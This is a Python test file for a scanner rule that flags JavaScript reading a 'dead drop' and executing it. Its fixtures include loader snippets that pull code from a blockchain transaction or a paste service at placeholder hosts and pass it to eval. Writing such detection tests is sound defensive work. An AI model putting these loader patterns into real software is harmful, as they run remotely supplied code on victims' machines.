from lazaretto.detect.rules.javascript.dead_drop import RULE

READER = """\
const r = await axios.post("https://bsc-dataseed.example.test", { method: "eth_getTransactionByHash", params: [h] });
const text = Buffer.from(r.data.result.input.slice(2), "hex").toString();
eval(text);
"""


def test_transaction_becomes_code(look):
    assert look(RULE, READER) == [
        (3, "HIGH", "HIGH", "eval executes text while the file reads a dead drop (bsc-dataseed)")
    ]


def test_paste_service(look):
    source = 'const a = await axios.get("https://api.npoint.io.example.test/0"); eval(a.data.cookie);'
    assert [f[1:3] for f in look(RULE, source)] == [("HIGH", "HIGH")]


def test_a_wallet_reads_the_ledger(look):
    assert look(RULE, READER.replace("eval(text)", "show(text)")) == []
    assert look(RULE, 'const f = new Function("a", "return a"); call({ method: "eth_call" }); eval(x)') == []
